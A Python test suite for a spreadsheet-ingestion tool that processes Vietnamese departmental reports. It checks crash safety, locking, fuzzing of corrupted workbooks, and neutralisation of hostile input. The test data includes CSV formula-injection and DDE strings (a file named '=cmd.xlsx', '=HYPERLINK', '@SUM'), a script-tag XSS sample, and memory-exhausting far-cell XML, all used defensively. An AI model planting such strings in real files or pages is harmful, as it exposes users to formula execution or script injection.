def test_a_panic_of_the_reader_library_is_a_finding_in_process_too(hostile, ctx):
    """python-calamine's Rust panics derive from BaseException: read_file catches them."""
    broken = read_file(hostile / "vo.xls", "vo.xls", ctx)
    assert broken.record["status"] == "unreadable"
    assert read_file(hostile / GOOD, GOOD, ctx).record["status"] == "ok"


def test_text_longer_than_excel_allows_is_cut(tmp_path):
    rows = table()
    rows[3][4] = "x" * 100_000
    book = Workbook(big_sheet(tmp_path / "dai.xlsx", rows, 0))  # openpyxl itself would cut it
    try:
        note = book.sheet(book.sheet_names[0]).rows[3][4]
    finally:
        book.close()
    assert len(note) == 32_768 and note.endswith("…")


def test_wrong_period_is_not_mixed_in(hostile):
    folder = hostile.parent / "only-period"
    folder.mkdir(exist_ok=True)
    shutil.copy(hostile / GOOD, folder / GOOD)
    shutil.copy(hostile / "nam 2020.xlsx", folder / "nam 2020.xlsx")
    result = ingest(PERIOD, folder)
    mismatch = result.findings[result.findings["check"] == "period-mismatch"]
    assert list(mismatch["source_file"]) == ["nam 2020.xlsx"]
    assert "2020-H1" in mismatch.iloc[0]["message"] and "2 số liệu" in mismatch.iloc[0]["message"]
    assert set(result.values["source_file"]) == {GOOD}
    assert not {98.0, 99.0} & set(result.values["value"])


def test_original_files_are_never_modified(hostile, ctx):
    before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in hostile.iterdir()}
    with read_files([(hostile / name, name) for name in before], ctx) as results:
        for _ in results:
            pass
    assert {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in hostile.iterdir()} == before


# ------------------------------------------------------------------------------------------------
# safe outputs


def formula_cells(path: Path) -> list[tuple[int, str, str]]:
    """Every field of a CSV that a spreadsheet would run: (line, column, text)."""
    found = []
    with open(path, encoding="utf-8") as handle:  # universal newlines: a bare CR ends a row, as in Excel
        reader = csv.reader(handle)
        header = next(reader)
        for number, row in enumerate(reader, start=2):
            for column, field in zip(header, row):
                if field.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(field):
                    found.append((number, column, field))
    return found


def test_department_text_never_becomes_a_formula_in_findings(hostile, tmp_path):
    folder = tmp_path / "raw"
    folder.mkdir()
    shutil.copy(hostile / "=cmd.xlsx", folder / "=cmd.xlsx")
    shutil.copy(hostile / GOOD, folder / GOOD)
    result = ingest(PERIOD, folder)
    texts = " ".join(result.findings["message"])
    for quoted in ("'=1+1'", "'@SUM(A1)'", "'+1+1'", "=cmd|", "'7\r=HYPERLINK"):
        assert quoted in texts  # the department sees what it wrote...
    out = tmp_path / "out"
    pipeline.write_frames(out, pipeline.ingest_frames(result))
    assert formula_cells(out / "findings.csv") == []  # ...but nothing runs
    # a carriage return in a quoted text does not end the row (the rest would be a new row: a formula)
    assert len(pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)) == len(result.findings)
    back = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    assert "'=cmd.xlsx" in set(back["source_file"]) and "'=1+2" in set(back["sheet"])


def test_department_text_never_becomes_a_formula_in_files_csv(hostile, tmp_path):
    folder = tmp_path / "raw"
    folder.mkdir()
    shutil.copy(hostile / "=cmd.xlsx", folder / "=cmd.xlsx")
    out = tmp_path / "out"
    pipeline.write_frames(out, pipeline.ingest_frames(ingest(PERIOD, folder)))
    assert formula_cells(out / "files.csv") == []


def test_safe_frame_and_html_text_on_department_text():
    frame = pd.DataFrame({"message": ["=HYPERLINK(\"x\")", "@SUM(A1)", "+1+1", "-2+3", "-3", "ok", None],
                          "value": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0]})
    safe = safe_frame(frame)
    assert list(safe["message"][:6]) == ["'=HYPERLINK(\"x\")", "'@SUM(A1)", "'+1+1", "'-2+3", "-3", "ok"]
    assert pd.isna(safe["message"][6]) and list(safe["value"]) == list(frame["value"])
    assert html_text("<script>alert('x')</script> & \"y\"") == "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &quot;y&quot;"
    assert cell_text(-3) == -3 and cell_text("=1+1") == "'=1+1"


# ------------------------------------------------------------------------------------------------
# all of it through the command line


def run_cli(args: list[str], root: Path, timeout: float = 120, **env) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "cchc_analysis", *args, "--root", str(root)],
                          capture_output=True, text=True, env={**ENV, **env}, timeout=timeout)


def run_measured(args: list[str], root: Path, timeout: float, **env) -> tuple[int, str, str, int]:
    """``cchc`` in a subprocess: exit code, output, error output and the peak RSS (KiB) of the
    largest of its processes (it and the reader processes it waited for, from ``wait4``)."""
    with open(root / "out.txt", "w+") as out, open(root / "err.txt", "w+") as err:
        proc = subprocess.Popen([sys.executable, "-m", "cchc_analysis", *args, "--root", str(root)],
                                stdout=out, stderr=err, env={**ENV, **env})
        deadline = time.monotonic() + timeout
        while True:
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() > deadline:
                proc.kill()
                os.wait4(proc.pid, 0)
                pytest.fail(f"cchc {' '.join(args)} ran more than {timeout} s")
            time.sleep(0.05)
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return proc.returncode, out.read(), err.read(), usage.ru_maxrss


@pytest.mark.parametrize("workers", ["1", "3"])
def test_cli_ingest_of_every_hostile_file_at_once(hostile, workers):
    """Read by one and by three worker processes."""
    root = hostile.parents[2]
    shutil.rmtree(root / "data" / "processed", ignore_errors=True)
    code, stdout, stderr, peak_kib = run_measured(["ingest", "--period", PERIOD], root, timeout=120,  # the acceptance bound
                                                  CCHC_WORKERS=workers)
    assert code == 0, stderr[-3000:]
    assert peak_kib < 2 * 1024 * 1024, f"peak RSS {peak_kib / 1024:.0f} MB"
    out = root / "data" / "processed" / PERIOD
    findings = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    by_file = findings.groupby("source_file")["check"].apply(set).to_dict()
    for name, _build, check, _words in HOSTILE:
        shown = "'" + name if name.startswith("=") else name
        assert check in by_file.get(shown, set()), (name, by_file.get(shown))
    values = pd.read_parquet(out / "values.parquet")
    good = values[values["source_file"] == GOOD].set_index("indicator")["value"].to_dict()
    assert good == {"2.1": 7.0, "2.2": 4.0}
    for name, expected in KEPT.items():
        kept = values[values["source_file"] == name].set_index("indicator")["value"].to_dict()
        assert kept == expected, name
    macro = values[values["source_file"] == "vi mo.xlsm"].set_index("indicator")["value"].to_dict()
    assert macro == {"2.1": 51.0, "2.2": 52.0}
    assert formula_cells(out / "findings.csv") == []
    assert "Tệp đã đọc:" in stdout


def test_cli_check_of_every_hostile_file_at_once(hostile):
    """``cchc check`` too: exit 0, and no formula in its findings or in the feedback workbooks."""
    root = hostile.parents[2]
    code, _stdout, stderr, peak_kib = run_measured(["check", "--period", PERIOD], root, timeout=120)
    assert code == 0, stderr[-3000:]
    assert peak_kib < 2 * 1024 * 1024
    assert formula_cells(root / "data" / "processed" / PERIOD / "findings.csv") == []
    books = sorted((root / "reports" / PERIOD).rglob("*.xlsx"))
    assert books
    for path in books:
        book = openpyxl.load_workbook(path)
        running = [(sheet.title, cell.coordinate, cell.value) for sheet in book for row in sheet.iter_rows() for cell in row
                   if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)
                                                 and not PLAIN_NUMBER.fullmatch(cell.value))]
        assert running == [], (path.name, running[:5])


# ------------------------------------------------------------------------------------------------
# no data loss: a run killed mid-way, two runs at once


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())} if folder.is_dir() else {}


def assert_whole(processed: Path, old: dict[str, bytes], new_files: int) -> str:
    """The period's outputs are the old ones byte for byte, or a complete new set; nothing else in
    ``processed`` could be taken for a period. (Killed between the two renames of the swap, the
    old ones wait beside the folder, ``.<period>.old-<pid>``, and the next run puts them back.)"""
    for entry in processed.iterdir():
        if entry.name == PERIOD:
            continue
        with pytest.raises(PeriodError):
            Period.parse(entry.name)
    now = snapshot(processed / PERIOD) or snapshot(next(processed.glob(f".{PERIOD}.old-*"), processed / PERIOD))
    if now == old:
        return "old"
    assert set(now) == set(old), sorted(now)
    files = pd.read_csv(processed / PERIOD / "files.csv")
    assert len(files) == new_files
    pd.read_parquet(processed / PERIOD / "values.parquet")
    pd.read_csv(processed / PERIOD / "findings.csv")
    return "new"


def test_killed_run_leaves_previous_outputs_intact(tmp_path):
    from cchc_analysis.samples import make_bulk

    raw = tmp_path / "data" / "raw" / PERIOD
    make_bulk(raw, 12)
    first = run_cli(["ingest", "--period", PERIOD], tmp_path)
    assert first.returncode == 0, first.stderr
    processed = tmp_path / "data" / "processed"
    old = snapshot(processed / PERIOD)
    assert set(old) >= {"values.parquet", "findings.csv"}
    # new input, slower to read: more files and a sheet with 200 000 junk rows
    make_bulk(tmp_path / "more", 15, seed=1)
    for path in (tmp_path / "more").glob("*.xlsx"):
        shutil.copy(path, raw / f"b-{path.name}")
    big_sheet(raw / "rac.xlsx", table("Phòng Tài chính - Kế hoạch", 21, 22), 200_000)
    new_files = len([p for p in raw.iterdir() if p.suffix == ".xlsx"])
    outcomes = []
    for delay in (0.5, "staging"):
        proc = subprocess.Popen([sys.executable, "-m", "cchc_analysis", "ingest", "--period", PERIOD, "--root", str(tmp_path)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=ENV)
        if delay == "staging":  # kill the moment it starts writing
            deadline = time.monotonic() + 60
            while proc.poll() is None and time.monotonic() < deadline:
                if any(p.name.startswith(f".{PERIOD}.") for p in processed.iterdir()):
                    break
                time.sleep(0.0005)
        else:
            time.sleep(delay)
        if proc.poll() is None:
            proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)
        outcomes.append(assert_whole(processed, old, new_files))
    assert "old" in outcomes  # at least one kill landed mid-run
    done = run_cli(["ingest", "--period", PERIOD], tmp_path)
    assert done.returncode == 0, done.stderr
    assert assert_whole(processed, old, new_files) == "new"
    values = pd.read_parquet(processed / PERIOD / "values.parquet")
    assert set(values[values["source_file"] == "rac.xlsx"]["value"]) == {21.0, 22.0}


def test_crash_between_the_two_renames_keeps_the_outputs(tmp_path, monkeypatch):
    out = tmp_path / "data" / "processed" / PERIOD
    pipeline.write_frames(out, {"findings.csv": pd.DataFrame({"a": [1]})})
    old = snapshot(out)
    real = os.replace
    calls = []

    def dying_replace(src, dst):
        calls.append((src, dst))
        if len(calls) == 2:
            raise KeyboardInterrupt("killed")  # the process dies here
        return real(src, dst)

    monkeypatch.setattr(pipeline.os, "replace", dying_replace)
    try:
        pipeline.write_frames(out, {"findings.csv": pd.DataFrame({"a": [2]})})
    except KeyboardInterrupt:
        pass
    monkeypatch.undo()
    assert len(calls) == 2  # it died between the two renames: the old outputs set aside, the new not yet in

    class Failing:  # the next run puts the old outputs back first, even one that fails itself
        def to_csv(self, *args, **kwargs):
            raise OSError("disc full")

    with pytest.raises(OSError):
        pipeline.write_frames(out, {"findings.csv": Failing()})
    assert snapshot(out) == old
    assert [p.name for p in out.parent.iterdir()] == [PERIOD]  # nothing left beside it


def test_two_holders_of_one_period_lock(tmp_path):
    (tmp_path / "data" / "raw" / PERIOD).mkdir(parents=True)  # a started period (cchc check refuses others)
    with pipeline.period_lock(tmp_path, PERIOD):
        with pytest.raises(pipeline.PeriodLocked, match=PERIOD):
            with pipeline.period_lock(tmp_path, PERIOD):
                pass
        with pipeline.period_lock(tmp_path, "2021-Q1"):  # another period is free
            pass
        done = run_cli(["check", "--period", PERIOD], tmp_path)
        assert done.returncode == 2 and "đang được xử lý" in done.stderr
    with pipeline.period_lock(tmp_path, PERIOD):  # released
        pass


def test_cli_ingest_waits_for_no_one_but_refuses_a_held_period(tmp_path):
    write_book(tmp_path / "data" / "raw" / PERIOD / GOOD, table())
    with pipeline.period_lock(tmp_path, PERIOD):
        done = run_cli(["ingest", "--period", PERIOD], tmp_path)
    assert done.returncode == 2 and "đang được xử lý" in done.stderr


def test_lock_of_a_killed_holder_is_released(tmp_path):
    code = ("import sys, time; from cchc_analysis import pipeline\n"
            f"with pipeline.period_lock({str(tmp_path)!r}, {PERIOD!r}):\n"
            "    print('held', flush=True); time.sleep(60)\n")
    holder = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True, env=ENV)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(pipeline.PeriodLocked):
            with pipeline.period_lock(tmp_path, PERIOD):
                pass
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait(timeout=30)
    with pipeline.period_lock(tmp_path, PERIOD):
        pass


# ------------------------------------------------------------------------------------------------
# fuzzing

CATALOGUE = load_catalogue(2021)
UNITS = load_units()
MATCHER = IndicatorMatcher(CATALOGUE)
UNIT_MATCHER = UnitMatcher(UNITS)
FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
KINDS = st.sampled_from(["count", "percent", "code", "score", "group", ""])
CELLS = st.one_of(
    st.none(), st.text(), st.integers(), st.floats(allow_nan=True, allow_infinity=True), st.booleans(),
    st.datetimes(), st.dates(), st.times(), st.timedeltas(),
    st.from_regex(r"\s*[+-]?[\d.,\s]{0,12}\s*%?\s*\w{0,12}", fullmatch=True),
    st.sampled_from(["87,5%", "1.234", "Có", "Không", "Kết hợp", "-", "…", "0=Trực tuyến", "2 (Kết hợp)", "1e309"]),
)


@FUZZ
@given(raw=CELLS, kind=KINDS, choices=st.dictionaries(st.integers(-3, 12), st.text(max_size=20), max_size=4),
       low=st.none() | st.floats(), high=st.none() | st.floats(), unit=st.text(max_size=30),
       percent_format=st.none() | st.booleans())
def test_parse_value_never_raises(raw, kind, choices, low, high, unit, percent_format):
    parsed = parse_value(raw, kind, choices=choices, low=low, high=high, unit=unit, percent_format=percent_format)
    assert isinstance(parsed, Parsed) and isinstance(parsed.value, float) and isinstance(parsed.reason, str)


@FUZZ
@given(code=st.text(max_size=20) | st.from_regex(r"\d{1,2}(\.\d{1,2}){0,4}\.?", fullmatch=True),
       name=st.text(max_size=200), context=st.text(max_size=10) | st.sampled_from(["1.2", "3.1.3", "7.1.6.1"]))
def test_indicator_matching_never_raises(code, name, context):
    found = MATCHER.match(normalise_code(code), name, context)
    assert found is None or (found[0] in MATCHER.id_set and isinstance(found[1], str))


@FUZZ
@given(value=st.one_of(st.none(), st.text(), st.integers(), st.floats(allow_nan=True, allow_infinity=True),
                       st.booleans(), st.datetimes()))
def test_normalise_code_never_raises(value):
    assert isinstance(normalise_code(value), str)


@FUZZ
@given(text=st.text(max_size=200), abbreviations=st.booleans(),
       titles=st.lists(st.text(max_size=80) | st.builds("TÊN CƠ QUAN: {}".format, st.text(max_size=40)), max_size=4),
       meta_unit=st.none() | st.text(max_size=30), file_name=st.text(max_size=40))
def test_unit_recognition_never_raises(text, abbreviations, titles, meta_unit, file_name):
    assert UNIT_MATCHER.candidates(text, abbreviations) <= set(UNITS["code"])
    meta = {} if meta_unit is None else {"unit": meta_unit}
    found = recognise_unit(meta, titles, file_name or "x.xlsx", UNIT_MATCHER)
    assert found.code is None or found.code in set(UNITS["code"])


@FUZZ
@given(text=st.text(max_size=200) | st.from_regex(r"(6|9|sáu) tháng (đầu )?năm \d{1,6}|quý [IV1-4]{1,3} năm \d{1,6}", fullmatch=True))
def test_period_in_text_never_raises(text):
    found = period_in_text(fold(text))
    assert found is None or isinstance(found, Period)


@settings(max_examples=int(os.environ.get("CCHC_FUZZ", 60)), deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_mangled_workbooks_never_crash_the_reader(tmp_path_factory, ctx, data):
    """Sheet XML with bytes flipped, cut or inserted, re-packed: a finding or values, never an
    exception (the XML parsers of the reader library see hostile XML here)."""
    folder = tmp_path_factory.mktemp("mangled")
    base = shared_strings(members(write_book(folder / "base.xlsx", table())))
    name = data.draw(st.sampled_from([sheet_part(base), "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"]))
    xml = bytearray(base[name])
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(xml) - 1))
        action = data.draw(st.sampled_from(["flip", "cut", "insert"]))
        if action == "flip":
            xml[at] = data.draw(st.integers(0, 255))
        elif action == "cut":
            del xml[at : at + data.draw(st.integers(1, 40))]
        else:
            xml[at:at] = data.draw(st.sampled_from([b"<", b">", b"&", b'"', b"<c r=\"XFD1048576\"><v>1</v></c>",
                                                    b"<row r=\"99999999\">", b"\x00", b"\xff\xfe", b"]]>"]))
    base[name] = bytes(xml)
    path = write_zip(folder / "mangled.xlsx", base)
    result = read_one(path, "mangled.xlsx", ctx)
    assert result.record["status"] in ("ok", "unreadable", "no-table", "unknown-unit", "period-mismatch")


@settings(max_examples=int(os.environ.get("CCHC_FUZZ", 40)), deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_mangled_xls_never_crash_the_reader(tmp_path_factory, ctx, data):
    """An old-format workbook (compound file + BIFF records) with bytes flipped or cut."""
    blob = bytearray(ole(biff(table())))
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(blob) - 1))
        if data.draw(st.booleans()):
            blob[at] = data.draw(st.integers(0, 255))
        else:
            blob[at : at + 4] = struct.pack("<I", data.draw(st.sampled_from([0, 1, 0xFFFF, 0xFFFFFFF0, 0xFFFFFFFE, 0x7FFFFFFF])))
    path = tmp_path_factory.mktemp("xls") / "mangled.xls"
    path.write_bytes(bytes(blob))
    result = read_one(path, "mangled.xls", ctx)
    assert result.record["status"] in ("ok", "unreadable", "no-table", "unknown-unit", "period-mismatch")


def test_old_staging_folders_are_swept(tmp_path):
    """A staging folder a killed run left an hour ago is removed by the next write; a fresh one
    (another run may be using it) is kept."""
    import os
    import time

    import pandas as pd

    from cchc_analysis.pipeline import write_frames

    out = tmp_path / "data" / "processed" / "2021-H1"
    old = out.parent / ".2021-H1.abandoned"
    fresh = out.parent / ".2021-H1.running"
    for folder in (old, fresh):
        folder.mkdir(parents=True)
    two_hours_ago = time.time() - 7200
    os.utime(old, (two_hours_ago, two_hours_ago))
    write_frames(out, {"x.csv": pd.DataFrame({"a": [1]})})
    assert not old.exists() and fresh.exists() and (out / "x.csv").is_file()


def _with_rows_added(path: Path, rows: bytes) -> Path:
    """The Tư pháp table (2.1 = 5, 2.2 = 6) with ``rows`` of raw XML added at the end of its sheet."""
    write_book(path, table("Phòng Tư pháp", 5, 6))
    parts = members(path)
    part = sheet_part(parts)
    parts[part] = parts[part].replace(b"</sheetData>", rows + b"</sheetData>")
    return write_zip(path, parts)


@pytest.mark.parametrize("far", [
    b'<row r="900000"><c r="XFD900000"><v>1</v></c></row>',
    b"<row r='900000'><c r='XFD900000'><v>1</v></c></row>",  # single quotes
    b'<row  r = "900000"><c\tr="XFD900000"><v>1</v></c></row>',  # white space around '=', a tab
    b'<row r="9"><c s="0"\nr="XFD9"><v>1</v></c></row>',  # r after another attribute, a line break
    b'<row r="9"><c r="XFD9"><v>1</v></c></row>',  # far column only
    b'<row r="9"><c r="A900000"><v>1</v></c></row>',  # far row only, in the cell's own reference
])
def test_a_far_cell_however_spelled_is_cut_off(tmp_path, ctx, far):
    """However the reference of a far cell is written, the table is read (streamed, after the
    worker that tried to hold the whole grid died) and the cut is reported."""
    result = read_one(_with_rows_added(tmp_path / "xa.xlsx", far), "xa.xlsx", ctx)
    assert {c["indicator"]: c["value"] for c in result.cells if c["status"] == "ok"} == {"2.1": 5.0, "2.2": 6.0}
    assert [f["check"] for f in result.findings] == ["truncated-sheet"], result.findings


@pytest.mark.parametrize("far", [
    b'<row r="9"><c s="0"r="XFD9"><v>1</v></c></row>',  # no space between the quote and r
    b'<row spans="1:2"r="900000"><c><v>1</v></c></row>',
    b'<row r="9"><c r="B9"r="XFD9"><v>1</v></c></row>',  # the reader takes the second r
])
def test_a_far_cell_in_malformed_xml_is_refused_not_read(tmp_path, ctx, far):
    """Attributes run together are not XML, yet python-calamine may accept them and allocate the
    far cell's whole box: either the box is small enough and the table is read with the cut named,
    or its worker dies and the streamed reading refuses the malformed XML. Never a crash of the run,
    never a silent cut."""
    result = read_one(_with_rows_added(tmp_path / "xa.xlsx", far), "xa.xlsx", ctx)
    checks = [f["check"] for f in result.findings]
    if result.record["status"] == "ok":
        assert {c["indicator"]: c["value"] for c in result.cells if c["status"] == "ok"} == {"2.1": 5.0, "2.2": 6.0}
        assert checks == ["truncated-sheet"], result.findings
    else:
        assert result.record["status"] == "unreadable" and checks == ["unreadable-file"], result.findings
